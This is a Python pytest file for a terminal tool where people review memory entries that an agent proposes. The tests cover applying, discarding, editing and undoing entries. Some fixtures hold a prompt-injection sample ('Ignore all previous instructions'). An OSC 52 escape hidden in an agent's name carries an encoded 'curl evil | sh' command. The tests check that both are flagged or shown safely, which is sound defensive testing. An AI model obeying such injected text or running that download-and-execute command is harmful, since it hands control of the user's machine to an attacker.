"""The review screen driven by real key presses; every check reads the store and the event log."""

from __future__ import annotations

import asyncio
import json
from datetime import timedelta

import pytest
from tui_helpers import (
    ACTOR,
    app_for,
    candidate_for,
    detail_text,
    events_of,
    loaded,
    notifications,
    pending_ids,
    settle,
    stable_options,
    wait_until,
)

from memory_review.proposal import parse_proposals
from memory_review.tui.screens.confirm import ChoiceModal
from memory_review.tui.screens.edit import EditModal
from memory_review.tui.screens.review import ReviewScreen
from memory_review.tui.widgets.key_bar import KeyBar
from memory_review.workspace import Workspace

pytestmark = pytest.mark.asyncio
SIZE = (100, 30)


def key_bar_text(app) -> str:
    """What the active screen's key bar shows, as plain text."""
    return app.screen.query_one(KeyBar).render().plain


async def open_review(pilot) -> ReviewScreen:
    await wait_until(pilot, lambda: loaded(pilot.app), what="the queue to load")
    await settle(pilot)
    assert isinstance(pilot.app.screen, ReviewScreen)
    return pilot.app.screen


async def go_to(pilot, screen: ReviewScreen, candidate_id: str) -> None:
    """Move the cursor onto a candidate with the arrow keys, as a person would."""
    order = screen.visible_ids()
    await pilot.press("home", *["down"] * order.index(candidate_id))
    assert screen.current().id == candidate_id


async def open_editor(pilot, screen: ReviewScreen, candidate_id: str) -> None:
    """Move onto a candidate and open its edit form with ``e``."""
    await go_to(pilot, screen, candidate_id)
    await pilot.press("e")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, EditModal), what="the editor")


async def apply_at_cursor(pilot, screen: ReviewScreen, candidate_id: str) -> None:
    """Move onto an unflagged candidate, press ``a`` and wait until it has left the queue."""
    await go_to(pilot, screen, candidate_id)
    await pilot.press("a")
    await wait_until(pilot, lambda: candidate_id not in screen.entries, what="the apply")
    await settle(pilot)


async def answer_apply(pilot, *keys: str) -> None:
    """Press ``a``, answer the question with ``keys``, and close it if they left it open."""
    await pilot.press("a")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, ChoiceModal), what="the question")
    await pilot.press(*keys)
    if isinstance(pilot.app.screen, ChoiceModal):
        await pilot.press("escape")  # nothing was chosen
    await settle(pilot)


async def test_apply_one_candidate(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "forbidden-mock-database")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        await pilot.press("a")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the applied candidate to leave")
    assert cid not in pending_ids(scenario)
    [applied] = scenario.log(type="candidate.applied", candidate=cid)
    assert applied.actor == ACTOR
    assert applied.changes[0].after["id"] == "forbidden-mock-database"
    assert "forbidden-mock-database" in {m.id for m in scenario.memories()}


async def test_discard_with_reason(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "pref-small-commits")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        await pilot.press("d")
        await pilot.press(*"one-off remark")
        await pilot.press("enter")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the discarded candidate to leave")
    [discarded] = scenario.log(scope="user", type="candidate.discarded", candidate=cid)
    assert discarded.reason == "one-off remark"
    assert discarded.actor == ACTOR
    assert "pref-small-commits" not in {m.id for m in scenario.memories()}


async def test_discard_cancelled_with_escape_writes_nothing(scenario: Workspace) -> None:
    before = len(scenario.log())
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        await open_review(pilot)
        await pilot.press("d", "x", "escape")
        await settle(pilot)
        assert isinstance(app.screen, ReviewScreen)
    assert len(scenario.log()) == before


async def test_edit_then_apply(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "forbidden-mock-database")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await open_editor(pilot, screen, cid)
        await pilot.press("end", *" (Postgres 16)", "ctrl+s")
        await wait_until(pilot, lambda: "candidate.edited" in events_of(scenario, cid), what="the edit event")
        await settle(pilot)
        await go_to(pilot, screen, cid)
        await pilot.press("a")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the applied candidate to leave")
    assert events_of(scenario, cid) == [
        "candidate.created",
        "candidate.edited",
        "candidate.applied",
    ]
    [edited] = scenario.log(type="candidate.edited", candidate=cid)
    assert edited.actor == ACTOR
    memory = {m.id: m for m in scenario.memories()}["forbidden-mock-database"]
    assert memory.description == "Never mock the database in tests; use the test container (Postgres 16)"


async def test_edit_types_at_the_end_and_the_details_follow_the_save(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "forbidden-mock-database")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await open_editor(pilot, screen, cid)
        await pilot.press(*" (v16)", "ctrl+s")  # no `end` first: nothing is selected, the cursor is at the end
        await wait_until(pilot, lambda: "(v16)" in detail_text(app), what="the details to show the edit")
        assert screen.current().id == cid
    [edited] = scenario.log(type="candidate.edited", candidate=cid)
    assert edited.record["changes"][0]["after"]["description"].endswith("use the test container (v16)")


async def test_escape_with_changes_asks_and_keeps_editing_by_default(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "forbidden-mock-database")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await open_editor(pilot, screen, cid)
        await pilot.press("escape")  # nothing changed: closes at once
        await wait_until(pilot, lambda: app.screen is screen, what="the editor to close")
        await open_editor(pilot, screen, cid)
        editor = app.screen
        await pilot.press("x", "escape")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the question")
        await pilot.press("enter")  # the focused answer: keep editing
        await wait_until(pilot, lambda: app.screen is editor, what="back in the editor")
        assert editor.query_one("#edit-description").value.endswith("x")
        await pilot.press("escape")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the question again")
        await pilot.click("#choice-drop")
        await wait_until(pilot, lambda: app.screen is screen, what="the editor to close")
        await settle(pilot)
    assert events_of(scenario, cid) == ["candidate.created"]


async def test_invalid_edit_is_shown_and_not_saved(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "forbidden-mock-database")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await open_editor(pilot, screen, cid)
        app.screen.query_one("#edit-description").value = "   "
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert isinstance(app.screen, EditModal), "an invalid record must keep the editor open"
        assert "description" in str(app.screen.query_one("#edit-error").render())
        await pilot.press("escape")
        await settle(pilot)
    assert events_of(scenario, cid) == ["candidate.created"]


async def test_bulk_apply_skips_flagged_ones(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await pilot.press("home", *["space"] * len(screen.order))
        assert screen.marked == set(screen.order)
        flagged = {cid for cid, e in screen.entries.items() if e.state.flags}
        assert len(flagged) == 2
        await pilot.press("a")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the bulk question")
        await pilot.press("enter")  # the focused, first answer: apply the unflagged only
        await wait_until(pilot, lambda: set(screen.entries) == flagged, what="only flagged ones to remain")
    assert pending_ids(scenario) == flagged
    applied = [e.candidate for e in scenario.log(type="candidate.applied")] + [
        e.candidate for e in scenario.log(scope="user", type="candidate.applied")
    ]
    assert not flagged & set(applied)
    assert len(applied) == 3 + 4  # the scenario's 3 approved, then the 4 unflagged just applied


async def test_bulk_apply_with_flagged_needs_the_explicit_choice(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await pilot.press("home", *["space"] * len(screen.order))
        await pilot.press("a")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the bulk question")
        await pilot.click("#choice-all")
        await wait_until(pilot, lambda: not screen.entries, what="the queue to empty")
    assert pending_ids(scenario) == set()


async def test_bulk_apply_of_flagged_rows_takes_shift_a(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        flagged = [cid for cid in screen.order if screen.entries[cid].state.flags]
        for cid in flagged:  # mark the flagged rows only: no unflagged one to apply by default
            await go_to(pilot, screen, cid)
            await pilot.press("space")
        assert screen.marked == set(flagged)
        for reflex in (["enter"], ["tab", "enter"], ["right", "enter"], ["a"], ["escape"]):
            await answer_apply(pilot, *reflex)
            assert pending_ids(scenario) >= set(flagged), reflex
        assert all(events_of(scenario, cid) == ["candidate.created"] for cid in flagged)
        await answer_apply(pilot, "A")
        await wait_until(pilot, lambda: not set(flagged) & set(screen.entries), what="the flagged to go")
    assert not set(flagged) & pending_ids(scenario)
    assert all(events_of(scenario, cid)[-1] == "candidate.applied" for cid in flagged)


async def test_flagged_candidate_asks_first_and_enter_keeps_it(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "fact-ci-token")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        # Each reflex closes the question (or leaves it open) and keeps the candidate pending.
        for reflex in (["escape"], ["enter"], ["tab", "enter"], ["right", "enter"], ["a", "a"]):
            await answer_apply(pilot, *reflex)
            assert cid in pending_ids(scenario) and cid in screen.entries, reflex
        assert events_of(scenario, cid) == ["candidate.created"]
        await answer_apply(pilot, "A")  # shift+a: the deliberate key
        await wait_until(pilot, lambda: cid not in screen.entries, what="the applied candidate to leave")
    assert events_of(scenario, cid) == ["candidate.created", "candidate.applied"]


async def test_undo_apply_restores_the_memory_and_the_same_candidate(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "conv-package-manager")
    before = {m.id: m for m in scenario.memories()}["conv-package-manager"]
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await apply_at_cursor(pilot, screen, cid)
        assert "undo apply of 1" in key_bar_text(app)
        await pilot.press("u")
        await wait_until(pilot, lambda: cid in screen.entries, what="the same candidate back")
        await settle(pilot)
        assert "undo apply" not in key_bar_text(app)
    [applied] = scenario.log(type="candidate.applied", candidate=cid)
    assert events_of(scenario, cid)[-2:] == ["memory.reverted", "candidate.restored"]
    [reverted] = scenario.log(type="memory.reverted")
    assert reverted.reverts == applied.seq and reverted.actor == ACTOR
    after = {m.id: m for m in scenario.memories()}["conv-package-manager"]
    assert after == before
    assert scenario.show(cid).status == "pending"


async def press_until(pilot, key: str, condition, what: str) -> None:
    """Press one key and let the app run until ``condition()`` holds and nothing is left running."""
    await pilot.press(key)
    await wait_until(pilot, condition, what=what)
    await settle(pilot)


def _content(memory) -> tuple:
    """What a memory says and where it came from, without the stamps an apply sets afresh."""
    return (memory.id, memory.type, memory.description, memory.body, memory.applied_from, memory.applied_by)


async def test_redo_after_undo_apply_gives_the_state_after_the_apply_recorded(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "conv-package-manager")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await apply_at_cursor(pilot, screen, cid)
        applied = {m.id: _content(m) for m in scenario.memories()}
        assert "redo" not in key_bar_text(app)  # nothing undone yet: the key is not offered
        await press_until(pilot, "u", lambda: cid in screen.entries, "the undo")
        assert "redo apply of 1" in key_bar_text(app)
        await press_until(pilot, "ctrl+r", lambda: cid not in screen.entries, "the redo")
        assert "undo apply of 1" in key_bar_text(app) and "redo" not in key_bar_text(app)
    assert {m.id: _content(m) for m in scenario.memories()} == applied
    assert events_of(scenario, cid) == [
        "candidate.created",
        "candidate.applied",
        "memory.reverted",
        "candidate.restored",
        "candidate.applied",
    ]
    assert scenario.show(cid).status == "applied"
    replayed = scenario.replay(scope="project")  # the log alone gives the same set: replay and history see it
    assert {mid: _content(m) for mid, m in replayed.items()} == {
        m.id: _content(m) for m in scenario.memories() if m.scope == "project"
    }
    assert [p for r in scenario.verify() for p in r.problems] == []


async def test_redo_of_a_discard_discards_again_with_its_reason(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "pref-small-commits")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        await pilot.press("d", *"one-off", "enter")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the discard")
        await settle(pilot)
        await press_until(pilot, "u", lambda: cid in screen.entries, "the undo")
        assert "redo discard of 1" in key_bar_text(app)
        await press_until(pilot, "ctrl+r", lambda: cid not in screen.entries, "the redo")
        await press_until(pilot, "u", lambda: cid in screen.entries, "the second undo")  # the redo is undoable
    types = events_of(scenario, cid)
    assert types == ["candidate.created", *["candidate.discarded", "candidate.restored"] * 2]
    discards = scenario.log(scope="user", type="candidate.discarded", candidate=cid)
    assert [e.reason for e in discards] == ["one-off", "one-off"]
    assert scenario.show(cid).status == "pending"


async def test_a_new_decision_after_an_undo_leaves_nothing_to_redo(scenario: Workspace) -> None:
    first, second = candidate_for(scenario, "conv-package-manager"), candidate_for(scenario, "pref-small-commits")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await apply_at_cursor(pilot, screen, first)
        await press_until(pilot, "u", lambda: first in screen.entries, "the undo")
        assert app.redo_stack
        await apply_at_cursor(pilot, screen, second)
        assert not app.redo_stack and "redo" not in key_bar_text(app)
        await pilot.press("ctrl+r")  # not offered, and does nothing
        await settle(pilot)
    assert events_of(scenario, first)[-1] == "candidate.restored"
    assert scenario.show(first).status == "pending"


async def test_undo_discard_puts_the_same_candidate_back(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "pref-small-commits")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        await pilot.press("d", "enter")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the discard")
        await settle(pilot)
        assert "undo discard of 1" in key_bar_text(app)
        await pilot.press("u")
        await wait_until(pilot, lambda: cid in screen.entries, what="the same candidate back")
    [back] = [s for s in scenario.list_candidates() if "pref-small-commits" in s.candidate.memory_ids()]
    assert back.candidate.id == cid and "previously-discarded" not in back.flags
    assert events_of(scenario, cid) == ["candidate.created", "candidate.discarded", "candidate.restored"]


async def test_undo_of_a_bulk_apply_is_one_batch_with_the_same_ids(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        clean = [cid for cid in screen.order if not screen.entries[cid].state.flags]
        await pilot.press("home", *["space"] * len(screen.order))
        assert f"apply {len(screen.order)} marked" in key_bar_text(app)
        await pilot.press("a")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the bulk question")
        await pilot.press("enter")  # the unflagged ones; the flagged ones stay pending, unmarked
        await wait_until(pilot, lambda: not set(clean) & set(screen.entries), what="the bulk apply")
        await settle(pilot)
        assert screen.marked == set() and "marked" not in key_bar_text(app)
        assert f"undo apply of {len(clean)}" in key_bar_text(app)
        heads = {scope: scenario.store(scope).log().head().seq for scope in ("project", "user")}
        await pilot.press("u")
        await wait_until(pilot, lambda: set(clean) <= set(screen.entries), what="all of them back")
        await settle(pilot)
    assert pending_ids(scenario) >= set(clean)
    for scope, head in heads.items():  # per store: one batch, every line but its last marked `more`
        new = [e for e in scenario.log(scope=scope) if e.seq > head]
        assert all(e.more for e in new[:-1]) and (not new or new[-1].more is None)
    assert [p for r in scenario.verify() for p in r.problems] == []


async def test_a_after_a_bulk_apply_acts_on_the_cursor_not_a_leftover_mark(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        flagged = [cid for cid in screen.order if screen.entries[cid].state.flags]
        await pilot.press("home", *["space"] * len(screen.order))
        await pilot.press("a")
        await wait_until(pilot, lambda: isinstance(app.screen, ChoiceModal), what="the bulk question")
        await pilot.press("enter")
        await wait_until(pilot, lambda: set(screen.entries) == set(flagged), what="the bulk apply")
        await settle(pilot)
        await go_to(pilot, screen, flagged[-1])
        assert screen.targets()[0].candidate.id == flagged[-1] and len(screen.targets()) == 1
        assert "a Apply" in key_bar_text(app).replace("  ", " ")


async def test_u_while_a_decision_runs_never_undoes_an_older_one(scenario: Workspace) -> None:
    first, second = candidate_for(scenario, "conv-package-manager"), candidate_for(scenario, "pref-small-commits")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await apply_at_cursor(pilot, screen, first)
        with app._commit_lock:  # hold the worker queue: the next decision waits, as behind a slow disk
            await go_to(pilot, screen, second)
            await pilot.press("a")
            await wait_until(pilot, lambda: app.busy is not None, what="the busy indicator")
            assert "working: apply 1 candidate" in key_bar_text(app)
            await pilot.press("u")
            await pilot.pause(0.05)
            assert any("still running" in n[2] for n in notifications(app))
        await wait_until(pilot, lambda: second not in screen.entries, what="the second apply")
        await settle(pilot)
        assert app.busy is None and "working" not in key_bar_text(app)
    assert events_of(scenario, first)[-1] == "candidate.applied"  # the older apply stands
    assert events_of(scenario, second)[-1] == "candidate.applied"


async def test_undo_with_nothing_to_undo_says_so(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        await open_review(pilot)
        await pilot.press("u")
        await settle(pilot)
    assert ("warning", "", "Nothing to undo.") in notifications(app)


async def test_filter_narrows_the_queue_and_actions_follow_it(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "fact-staging-url")
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await pilot.press("slash", *"staging delete", "enter")
        await settle(pilot)
        assert screen.visible_ids() == [cid]
        await pilot.press("a")
        await wait_until(pilot, lambda: cid not in screen.entries, what="the apply")
        await pilot.press("slash", "escape")
        await settle(pilot)
        assert len(screen.visible_ids()) == 5
    assert "fact-staging-url" not in {m.id for m in scenario.memories()}
    [deleted] = scenario.log(type="candidate.applied", candidate=cid)
    assert deleted.changes[0].after is None


async def test_details_spell_out_warnings_and_show_hidden_characters(scenario: Workspace) -> None:
    from memory_review.proposal import parse_proposals

    hidden = rb"""{"op": "create", "scope": "project", "memory": {"id": "fact-zero-width",
        "type": "fact", "description": "Deploys go\u200b through CI", "body": "Always\u200b."},
        "rationale": "said once",
        "evidence": [{"quote": "deploys go through CI", "turn_id": "t2"}]}"""
    [state] = scenario.propose(parse_proposals(hidden))
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, state.candidate.id)
        hidden_shown = detail_text(app)
        await go_to(pilot, screen, candidate_for(scenario, "fact-readme-note"))
        injection_shown = detail_text(app)
    # The note as injected (the invisible character is not in it), then the text as stored.
    assert "[memory:project:fact] Deploys go through CI (id=fact-zero-width)\nAlways.\n" in hidden_shown
    assert "Deploys go<U+200B> through CI\nAlways<U+200B>." in hidden_shown
    assert "“deploys go through CI”" in hidden_shown and "turn t2" in hidden_shown
    assert "⚠ possible-prompt-injection" in injection_shown and "steer the agent" in injection_shown
    assert "Ignore all previous instructions" in injection_shown  # the reviewer sees the text itself


async def test_a_proposers_escape_sequence_is_shown_not_sent_to_the_terminal(scenario: Workspace) -> None:
    """The re-review of session 37: the agent names itself, and an OSC 52 in its name wrote the clipboard."""
    osc = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    proposal = {
        "op": "create",
        "scope": "project",
        "memory": {"id": "fact-osc", "type": "fact", "description": "Deploys go through CI", "body": "Deploys."},
        "rationale": "said once",
        "evidence": [{"quote": "deploys go through CI", "turn_id": "t2"}],
        "proposer": {"kind": "agent", "name": f"helper{osc}", "model": f"m{osc}"},
    }
    [state] = scenario.propose(parse_proposals(json.dumps(proposal).encode()))
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, state.candidate.id)
        shown = detail_text(app)
    assert "\x1b" not in shown and "\x07" not in shown
    assert "helper<U+001B>]52;c;" in shown


async def test_conflict_is_shown_and_the_candidate_kept(scenario: Workspace) -> None:
    """Another process changes the memory under a pending update; applying it reports a conflict."""
    cid = candidate_for(scenario, "conv-package-manager")
    other = Workspace(scenario.root, scenario.user.root)  # a second handle, as another process would have
    app = app_for(scenario)  # no polling: the UI still believes the candidate is fine
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        other.delete("conv-package-manager", actor="someone-else", scope="project")
        await go_to(pilot, screen, cid)
        await pilot.press("a")
        await wait_until(
            pilot,
            lambda: any(sev == "error" for sev, _, _ in notifications(app)),
            what="the conflict message",
        )
        await settle(pilot)
        assert isinstance(app.screen, ReviewScreen)
        assert cid in screen.entries
        assert "stale-base" in screen.entries[cid].state.flags  # the reload after the failure shows why
    [(severity, title, message)] = [n for n in notifications(app) if n[0] == "error"]
    assert title.startswith("Conflict") and "conv-package-manager" in message
    assert events_of(scenario, cid) == ["candidate.created"]
    assert cid in pending_ids(scenario)


async def test_quit_cancels_queued_decisions_at_a_safe_point(scenario: Workspace) -> None:
    first, second = candidate_for(scenario, "conv-package-manager"), candidate_for(scenario, "pref-small-commits")
    before = len(scenario.log())
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        app._commit_lock.acquire()  # both decisions queue behind it, as behind a slow disk
        for cid in (first, second):
            await go_to(pilot, screen, cid)
            await pilot.press("a")
        await pilot.press("q")
        app._commit_lock.release()  # the queued decisions reach the lock only once quit was pressed
    await asyncio.sleep(0.5)  # a queued decision that were to run would run now
    assert app.not_run() == ["apply 1 candidate", "apply 1 candidate"]  # what the CLI prints after exit
    assert len(scenario.log()) == before and {first, second} <= pending_ids(scenario)


async def test_a_near_duplicate_shows_the_memory_it_repeats_side_by_side(scenario: Workspace) -> None:
    [twin] = scenario.memories()[:1]
    doc = {
        "op": "create",
        "scope": twin.scope,
        "rationale": "said again",
        "memory": {"id": "twin-of-it", "type": twin.type, "description": twin.description, "body": twin.body},
    }
    [state] = scenario.propose(parse_proposals(json.dumps(doc).encode()))
    assert f"similar-to:{twin.id}" in state.flags
    app = app_for(scenario)
    async with app.run_test(size=(120, 35)) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, state.candidate.id)
        await wait_until(pilot, lambda: "Already there, nearly the same" in detail_text(app), what="the twin")
        text = detail_text(app)
        assert f"{twin.id} ({twin.scope} {twin.type})" in text and "proposed: twin-of-it" in text
        assert "N" in screen.entries[state.candidate.id].row.cells[1]  # the queue's mark for it


async def test_an_empty_queue_says_when_the_filter_hides_the_rows(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        table = screen.query_one("#queue")
        await pilot.press("slash", *"zzzz")
        await settle(pilot)
        assert not table.rows and table.empty_text.startswith("the filter “zzzz” hides all 6")
        await pilot.press("escape")
        await settle(pilot)
        assert len(table.rows) == 6


async def test_ages_move_on_while_the_queue_is_open(scenario: Workspace) -> None:
    clock = stable_options(scenario)["now"]
    moments = [clock]
    app = app_for(scenario, now=lambda: moments[-1])
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        table = screen.query_one("#queue")
        first = table.render_line(1).text
        moments.append(clock + timedelta(hours=3))
        screen.tick_ages()  # what the screen's AGE_TICK timer calls
        await settle(pilot)
        assert table.render_line(1).text != first and " 3h " in table.render_line(1).text


async def test_an_update_shows_what_changes_first_without_the_file_stamps(scenario: Workspace) -> None:
    cid = candidate_for(scenario, "conv-package-manager")
    app = app_for(scenario)
    async with app.run_test(size=(120, 35)) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, cid)
        text = detail_text(app)
    first = text.index("What changes")
    assert first < text.index("Would remember") < text.index("Diff (memory files)")
    changes = text[first : text.index("Would remember")]
    assert "+" in changes and "-" in changes and "updated_at" not in changes and "applied_from" not in changes


async def test_field_terms_filter_the_queue_as_they_filter_the_history(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        await pilot.press("slash", *"scope:user")
        await settle(pilot)
        assert {screen.entries[cid].state.candidate.scope for cid in screen.visible_ids()} == {"user"}
        await pilot.press("escape", "3")
        await wait_until(pilot, lambda: bool(getattr(app.screen, "order", None)), what="the history")
        history = app.screen
        await pilot.press("slash", *"scope:user")
        await settle(pilot)
        shown = history.query_one("#events").rows
        assert shown and all(history.items[r.key].scope == "user" for r in shown)


async def test_a_near_duplicate_of_a_pending_candidate_is_shown_from_the_queue(scenario: Workspace) -> None:
    base = {
        "op": "create",
        "scope": "project",
        "rationale": "said twice",
        "memory": {
            "id": "lint-a",
            "type": "convention",
            "description": "Run ruff check before every commit in this repository",
            "body": "",
        },
    }
    twin = {
        **base,
        "memory": {**base["memory"], "id": "lint-b", "description": "Run ruff check before every commit in this repo"},
    }
    scenario.propose(parse_proposals(json.dumps(base).encode()))
    [state] = scenario.propose(parse_proposals(json.dumps(twin).encode()))
    assert "similar-to:lint-a" in state.flags
    app = app_for(scenario)
    async with app.run_test(size=(120, 35)) as pilot:
        screen = await open_review(pilot)
        await go_to(pilot, screen, state.candidate.id)
        await wait_until(pilot, lambda: "lint-a (project convention)" in detail_text(app), what="the pending twin")


async def test_a_long_read_is_said_in_the_key_bar(scenario: Workspace) -> None:
    app = app_for(scenario)
    async with app.run_test(size=SIZE) as pilot:
        screen = await open_review(pilot)
        with app.reader.lock:  # the queue's reader is busy elsewhere: the reload waits, as on a slow disk
            screen.reload()
            await wait_until(pilot, lambda: app.busy is not None, what="the busy line")
            assert "reading: review" in key_bar_text(app)
        await wait_until(pilot, lambda: app.busy is None, what="the busy line to go")
        await settle(pilot)
        assert "reading" not in key_bar_text(app)
